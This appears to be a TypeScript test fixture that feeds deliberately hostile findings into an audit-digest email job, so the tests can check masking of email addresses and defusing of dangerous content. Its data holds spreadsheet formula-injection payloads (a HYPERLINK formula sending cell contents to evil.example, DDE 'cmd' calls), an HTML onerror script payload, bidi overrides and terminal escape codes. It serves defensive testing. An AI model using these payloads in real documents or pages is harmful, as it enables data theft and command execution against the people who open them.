/**
 * A digest run of a tenant whose findings carry what the digest must mask or defuse:
 * email addresses in labels, titles and evidence (next to commas, quotes, line breaks,
 * at a cell's start and end), formula-leading cells, markup, control characters and
 * bidi overrides, lookalike and non-ASCII addresses, and `@`s that are not addresses.
 * Spread over every rule family, so that the three audiences get different shares.
 * {@link hostileDigestRun} gives each audience's data as the digest job builds it.
 */
import { AUDIENCE_FAMILIES, findingsFor } from '../../src/audit/digest-findings.js';
import {
  APPROVALS_AUDIENCES,
  DIGEST_AUDIENCES,
  REVIEW_AUDIENCES,
  SECRETS_AUDIENCES,
  type DigestData,
  type DigestFindings,
  type DigestSecret,
} from '../../src/mail/templates/digest.template.js';
import type { Finding } from '../../src/rules/types.js';
import { ACME_AS_OF, acmeDigestData, makeFinding, pendingApprovals, STAFF_EMAIL } from './digest-data.js';

const DAY = 86_400_000;
const ago = (days: number) => new Date(Date.parse(ACME_AS_OF) - days * DAY).toISOString();

function hostileFindings(): Finding[] {
  return [
    makeFinding({
      rule: 'SEC-02',
      severity: 'critical',
      subject: { type: 'file', id: 'exports/contacts.csv', label: 'ops@acme.example,billing@acme.example' },
      title: 'Secret in "notes@acme.example"; see a@b.co\nand c@d.io',
      evidence: { path: 'exports/contacts.csv', found_by: 'Grace <grace@acme.example>', line: 12 },
    }),
    makeFinding({
      rule: 'ACC-02',
      severity: 'high',
      subject: { type: 'user', id: 'u-mallory', label: '=HYPERLINK("http://evil.example/?q="&A1,"click")' },
      title: "Account =cmd|' /C calc'!A0 <mallory@evil.example>",
    }),
    makeFinding({
      rule: 'TOK-03',
      severity: 'medium',
      subject: { type: 'token', id: 'tok_sum', label: "@SUM(1+1)*cmd|' /C calc'!A0" },
      title: '+1 token of "x@y.zz"',
      evidence: { 'owner@acme.example': 'key is an address', nested: { list: ['a@b.co', 'no mail', 'c,d@e.ff'] } },
    }),
    makeFinding({
      rule: 'NET-02',
      severity: 'low',
      subject: { type: 'allowlist_entry', id: '198.51.100.0/24', label: '-2+3 ; x@y.co' },
      title: '\tTAB title with\r\nCRLF and an address\u00a0z@y.io',
    }),
    makeFinding({
      rule: 'PRV-01',
      severity: 'high',
      subject: { type: 'profile', id: 'p-77', label: 'jöhn@exämple.de' },
      title: 'fullwidth ｊ＠ｅｘａｍｐｌｅ．ｃｏｍ, a@b,c.d, x@y\n.z, a lone @, a@ and @b.c',
      evidence: { emails: ['jöhn@exämple.de', 'JANE@SHOP.EXAMPLE'] },
    }),
    makeFinding({
      rule: 'DAT-01',
      severity: 'medium',
      subject: { type: 'webhook', id: 'wh-1', label: '\u202Eevil@rtl.example\u202C \u001b[2J\u0007' },
      title: '<img src=x onerror=alert(1)> sends to a@b.co',
      evidence: { url: 'https://hooks.example/in?to=ops@acme.example&x=1' },
    }),
    makeFinding({
      rule: 'CARE-01',
      severity: 'low',
      subject: { type: 'webhook', id: 'wh-2', label: '"quoted@mail.example"' },
      title: 'first@cell.example starts this title',
      evidence: { note: 'ends with trailing@end.example' },
    }),
    makeFinding({
      rule: 'SEC-01',
      severity: 'high',
      subject: { type: 'secret', id: 'pos-sync', label: 'pos, "sync"' },
      title: 'Secret pos-sync is 400 days old, no address here',
      evidence: { age_days: 400 },
    }),
  ];
}

/** The tenant's findings as one run splits them: acme's (with its poisoned ones) and the hostile ones, in every status. */
export function hostileDigestFindings(): DigestFindings {
  const acme = acmeDigestData().findings;
  const hostile = hostileFindings();
  const gone = makeFinding({
    rule: 'TOK-01',
    severity: 'high',
    subject: { type: 'token', id: 'tok_gone_mail', label: 'gone@acme.example' },
    title: 'Token gone@acme.example, "quoted", =1+1',
    evidence: { last_used_by: 'gone@acme.example' },
  });
  return {
    created: [...acme.created, ...hostile.slice(0, 4)],
    persisting: [...acme.persisting, ...hostile.slice(4)],
    resolved: [...acme.resolved, gone],
  };
}

function secrets(): DigestSecret[] {
  return [
    { name: 'webhook-signing', kind: 'webhook-signing', currentSince: ago(120), rotateEveryDays: 90, rotation: null },
    {
      name: 'barcode <b>',
      kind: 'barcode',
      currentSince: ago(15.5),
      rotateEveryDays: 90,
      rotation: { id: 12, state: 'test', since: ago(10), waitingFor: `a delivery signed\n(ask ${STAFF_EMAIL})\u001b[2J`, tries: 3, emergency: false },
    },
  ];
}

/**
 * Each audience's digest data, in the job's order, as jobs/digest.job.ts builds it:
 * its share of the same finding objects, approvals, secrets and review where the
 * audience gets them, the audit log's head, and links (`WARDEN_PUBLIC_URL` set).
 */
export function hostileDigestRun(): DigestData[] {
  const all = hostileDigestFindings();
  const approvals = { total: 4, oldest: pendingApprovals() };
  const review = { id: 5, status: 'open' as const, dueOn: '2026-11-20', closesOn: '2026-11-30', items: 40, decided: 31, undecided: 9, flaggedUndecided: 2, overdueDays: 9 };
  const shared = secrets();
  return DIGEST_AUDIENCES.map((audience) => ({
    tenant: 'acme',
    audience,
    asOf: ACME_AS_OF,
    findings: findingsFor(audience, all),
    policy: { inactive_days: 60, max_admins: 5 },
    auditLogHead: { hash: 'ab'.repeat(32), count: 42 },
    ...(APPROVALS_AUDIENCES.includes(audience) ? { approvals } : {}),
    ...(SECRETS_AUDIENCES.includes(audience) ? { secrets: shared } : {}),
    ...(REVIEW_AUDIENCES.includes(audience) ? { review } : {}),
    links: { publicUrl: 'https://warden.example/', families: AUDIENCE_FAMILIES[audience] },
  }));
}
